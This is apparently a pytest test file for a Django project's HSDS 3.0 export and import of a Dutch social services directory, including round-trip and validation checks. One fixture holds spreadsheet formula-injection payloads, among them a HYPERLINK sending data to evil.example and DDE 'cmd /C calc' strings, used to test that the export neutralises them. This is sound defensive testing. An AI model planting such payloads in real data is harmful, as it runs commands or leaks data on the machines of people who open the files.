"""Another system receives the sociale kaart as a valid Open Referral HSDS 3.0 data package."""

import csv
import io
import uuid
from pathlib import Path

import frictionless
import pytest
from django.core.management import call_command

from steunsysteem.directory.constants import (
    TAXONOMY_ACCESS,
    TAXONOMY_DISTRICT,
    TAXONOMY_LIFE_DOMAIN,
    TAXONOMY_PARTICIPATION_GOAL,
)
from steunsysteem.directory.hsds.tables import MODELS, tables
from steunsysteem.directory.hsds.values import neutralise_formula, restore_formula
from steunsysteem.directory.models import (
    Attribute,
    Contact,
    CostOption,
    Phone,
    Program,
    Service,
)
from steunsysteem.directory.tests.factories import (
    AddressFactory,
    DistrictFactory,
    LocationFactory,
    OrganizationFactory,
    ScheduleFactory,
    ServiceAtLocationFactory,
    ServiceFactory,
)
from steunsysteem.directory.vocabularies import ACCESS_FEATURES, LIFE_DOMAINS

OFFICIAL = Path(__file__).parent / "hsds_examples" / "csv"
# The references the official package makes to rows it does not hold: dropped on import.
DROPPED = {
    "locations.csv": {"organization_id"},
    "contacts.csv": {"organization_id", "service_at_location_id"},
    "taxonomy_terms.csv": {"taxonomy_id", "parent_id"},
    "organizations.csv": {"parent_organization_id"},
}

pytestmark = pytest.mark.django_db


def export(outdir: Path) -> Path:
    call_command("export_hsds", str(outdir), "--no-progress", stdout=io.StringIO())
    return outdir


def rows_by_id(path: Path) -> dict[str, dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return {row["id"]: row for row in csv.DictReader(handle)}


def header(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return next(csv.reader(handle))


def assert_valid(outdir: Path) -> None:
    report = frictionless.validate(outdir / "datapackage.json")
    errors = [f"{task.name}: {error.note}" for task in report.tasks for error in task.errors]
    assert report.valid, errors


def test_the_official_examples_come_back_out_valid_and_unchanged(tmp_path):
    call_command(
        "import_hsds", str(OFFICIAL), "--allow-dangling", "--no-progress",
        stdout=io.StringIO(), stderr=io.StringIO(),
    )  # fmt: skip

    outdir = export(tmp_path / "export")

    assert_valid(outdir)
    for table in tables().values():
        original = rows_by_id(OFFICIAL / table.path)
        exported = rows_by_id(outdir / table.path)
        assert header(outdir / table.path) == header(OFFICIAL / table.path)
        for row_id, row in original.items():
            expected = {k: "" if k in DROPPED.get(table.path, ()) else v for k, v in row.items()}
            assert exported[row_id] == expected, table.path


def test_every_table_has_the_official_file_name_and_columns_even_when_empty(tmp_path):
    outdir = export(tmp_path / "export")

    assert_valid(outdir)
    assert (outdir / "datapackage.json").read_bytes() == (
        OFFICIAL / "datapackage.json"
    ).read_bytes()
    for path in OFFICIAL.glob("*.csv"):
        assert header(outdir / path.name) == header(path)


@pytest.fixture
def sociale_kaart():
    """A small Dutch sociale kaart with the text that breaks careless CSV writers."""
    district = DistrictFactory(name="Oost-Zuid", slug="oost-zuid")
    organization = OrganizationFactory(
        name="Stichting Één, Twee & Drie",
        description='Welzijn "voor iedereen", ook\nvoor naasten; café, crèche en ontmoeting.',
        email="info@eentweedrie.nl",
        website="https://eentweedrie.nl",
    )
    location = LocationFactory(
        organization=organization, name="Buurthuis De Wâl", district=district
    )
    AddressFactory(location=location, address_1="Kerkstraat 1, achterom", city="Partistad")
    service = ServiceFactory(
        organization=organization,
        name="Inloop, koffie & praatje",
        description="Elke dinsdag:\n- koffie\n- een praatje, als je wilt",
        life_domains=["meeting", "daytime_activity"],
        minimum_age=18,
    )
    Attribute.objects.create(
        link_entity="service",
        link_id=service.id,
        taxonomy_term_id=ACCESS_FEATURES.term_id("low_threshold"),
        link_type="access_feature",
    )
    ServiceAtLocationFactory(service=service, location=location)
    ScheduleFactory(service=service)
    Program.objects.create(organization=organization, name="Meedoen", description="Programma")
    Phone.objects.create(service=service, number="+31 30 123 45 67", description="Bel gerust")
    Contact.objects.create(organization=organization, name="José Müller", email="jose@example.nl")
    CostOption.objects.create(service=service, amount="2.50", amount_description="per keer")
    return district, location, service


def test_a_dutch_sociale_kaart_exports_as_valid_hsds(tmp_path, sociale_kaart):
    district, location, service = sociale_kaart

    outdir = export(tmp_path / "export")

    assert_valid(outdir)
    organizations = rows_by_id(outdir / "organizations.csv")
    (organization,) = organizations.values()
    assert organization["description"].startswith('Welzijn "voor iedereen", ook\nvoor naasten')
    services = rows_by_id(outdir / "services.csv")
    assert services[str(service.id)]["description"] == service.description
    assert services[str(service.id)]["minimum_age"] == "18"
    assert rows_by_id(outdir / "cost_options.csv").popitem()[1]["amount"] == "2.5"


def test_our_own_taxonomies_and_districts_are_in_the_export(tmp_path, sociale_kaart):
    district, location, service = sociale_kaart

    outdir = export(tmp_path / "export")

    taxonomies = rows_by_id(outdir / "taxonomies.csv")
    for taxonomy_id in (
        TAXONOMY_LIFE_DOMAIN, TAXONOMY_PARTICIPATION_GOAL, TAXONOMY_ACCESS, TAXONOMY_DISTRICT,
    ):  # fmt: skip
        assert taxonomy_id in taxonomies
    terms = rows_by_id(outdir / "taxonomy_terms.csv")
    meeting = terms[str(LIFE_DOMAINS.term_id("meeting"))]
    assert (meeting["name"], meeting["taxonomy_id"]) == ("Ontmoeting", TAXONOMY_LIFE_DOMAIN)
    district_term = terms[str(district.term_id)]
    assert (district_term["name"], district_term["code"]) == ("Oost-Zuid", "oost-zuid")
    assert district_term["taxonomy_id"] == TAXONOMY_DISTRICT
    attributes = list(rows_by_id(outdir / "attributes.csv").values())
    links = {(a["link_entity"], a["link_id"], a["taxonomy_term_id"]) for a in attributes}
    assert ("service", str(service.id), str(LIFE_DOMAINS.term_id("meeting"))) in links
    assert ("service", str(service.id), str(ACCESS_FEATURES.term_id("low_threshold"))) in links
    assert ("location", str(location.id), str(district.term_id)) in links
    assert_valid(outdir)


def test_an_export_imports_into_another_installation(tmp_path, sociale_kaart):
    district, location, service = sociale_kaart
    outdir = export(tmp_path / "export")
    exported = {name: model.objects.count() for name, model in MODELS.items()}
    for model in reversed(MODELS.values()):
        model.objects.all().delete()

    call_command("import_hsds", str(outdir), "--no-progress", stdout=io.StringIO())

    imported = {name: model.objects.count() for name, model in MODELS.items()}
    assert imported["service"] == exported["service"]
    assert imported["taxonomy_term"] == exported["taxonomy_term"] + 1  # the district as a term
    assert imported["attribute"] == exported["attribute"] + 1  # the location's district
    assert Service.objects.get(id=service.id).description == service.description
    # The district term and attribute are now stored rows: exported once, not twice.
    again = export(tmp_path / "again")
    for name in ("attributes.csv", "taxonomy_terms.csv", "services.csv", "locations.csv"):
        assert rows_by_id(again / name) == rows_by_id(outdir / name)
    assert_valid(again)


FORMULAS = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Klik hier")',
    "alternate_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description": "+cmd|' /C notepad'!A0",
    "alert": "-2+3+cmd|' /C calc'!A0",
    "application_process": "\t=1+1",
    "fees_description": "\r=1+1",
    "wait_time": "'=already quoted once",
}


@pytest.fixture
def formulas():
    """Text an attacker typed to run in the spreadsheet of whoever opens the export."""
    organization = OrganizationFactory(name="=1+1", description="Gewone tekst")
    service = ServiceFactory(organization=organization, **FORMULAS)
    location = LocationFactory(organization=organization, latitude=51.5, longitude=-0.1275)
    Phone.objects.create(service=service, number="+31 (0)30 123 45 67")
    Phone.objects.create(location=location, number="-")
    Contact.objects.create(organization=organization, name="Ann", email="-ann@example.org")
    return organization, service, location


def test_no_exported_cell_starts_a_spreadsheet_formula(tmp_path, formulas):
    outdir = export(tmp_path / "export")

    for path in outdir.glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell[:1] in ("=", "@", "\t", "\r"):
                        pytest.fail(f"{path.name}: {cell!r}")
                    if cell[:1] in ("+", "-"):
                        assert set(cell) <= set("+-0123456789 ().,/"), (path.name, cell)
    service = rows_by_id(outdir / "services.csv").popitem()[1]
    assert service["name"] == "'" + FORMULAS["name"]
    assert service["description"] == "'+cmd|' /C notepad'!A0"
    assert service["application_process"] == "'\t=1+1"
    assert service["wait_time"] == "''=already quoted once"
    assert_valid(outdir)


def test_numbers_and_phone_numbers_are_exported_as_they_are(tmp_path, formulas):
    organization, service, location = formulas

    outdir = export(tmp_path / "export")

    assert rows_by_id(outdir / "locations.csv")[str(location.id)]["longitude"] == "-0.1275"
    numbers = {row["number"] for row in rows_by_id(outdir / "phones.csv").values()}
    assert numbers == {"+31 (0)30 123 45 67", "-"}
    assert_valid(outdir)


def test_an_export_with_neutralised_cells_imports_as_the_original_text(tmp_path, formulas):
    organization, service, location = formulas
    outdir = export(tmp_path / "export")
    for model in reversed(MODELS.values()):
        model.objects.all().delete()

    call_command("import_hsds", str(outdir), "--no-progress", stdout=io.StringIO())

    imported = Service.objects.get(id=service.id)
    for field, text in FORMULAS.items():
        assert getattr(imported, field) == text, field
    assert Contact.objects.get().email == "-ann@example.org"
    assert Phone.objects.filter(number="+31 (0)30 123 45 67").exists()
    again = export(tmp_path / "again")
    assert (again / "services.csv").read_bytes() == (outdir / "services.csv").read_bytes()


@pytest.mark.parametrize(
    "text, written",
    [
        ("=1+1", "'=1+1"),
        ("@A1", "'@A1"),
        ("+31 20 123 4567", "+31 20 123 4567"),
        ("-12.5", "-12.5"),
        ("-x", "'-x"),
        ("'=1+1", "''=1+1"),
        ("'t Hoekje", "'t Hoekje"),
        ("''", "''"),
        ("", ""),
        ("Koffie = gratis", "Koffie = gratis"),
    ],
)
def test_a_neutralised_cell_reads_back_as_exactly_the_original(text, written):
    assert neutralise_formula(text) == written
    assert restore_formula(written) == text


def test_a_steunpunt_is_exported_as_hsds_attributes_of_its_location(tmp_path, sociale_kaart):
    from steunsysteem.directory.constants import TAXONOMY_SUPPORT_POINT
    from steunsysteem.directory.services import support_point_save
    from steunsysteem.directory.vocabularies import SUPPORT_POINT_FEATURES

    _district, location, _service = sociale_kaart
    support_point_save(
        location=location,
        by=None,
        days_open_per_week=4,
        led_by_experts_by_experience=True,
        independent=False,
    )

    outdir = export(tmp_path / "export")

    assert TAXONOMY_SUPPORT_POINT in rows_by_id(outdir / "taxonomies.csv")
    terms = rows_by_id(outdir / "taxonomy_terms.csv")
    assert terms[str(SUPPORT_POINT_FEATURES.term_id("steunpunt"))]["name"] == (
        "Laagdrempelig steunpunt"
    )
    mine = {
        SUPPORT_POINT_FEATURES.term_id(code): code for code in SUPPORT_POINT_FEATURES.dutch_names
    }
    attributes = [
        row
        for row in rows_by_id(outdir / "attributes.csv").values()
        if row["link_id"] == str(location.id) and row["link_type"] == "steunpunt"
    ]
    exported = {mine[uuid.UUID(row["taxonomy_term_id"])]: row["value"] for row in attributes}
    assert exported == {
        "steunpunt": "",
        "steunpunt_days_open_per_week": "4",
        "steunpunt_walk_in": "",
        "steunpunt_meeting": "",
        "steunpunt_activities": "",
        "steunpunt_peer_support": "",
        "steunpunt_led_by_experts_by_experience": "",
        "steunpunt_own_location": "",
    }  # not "independent": it is not
    assert_valid(outdir)
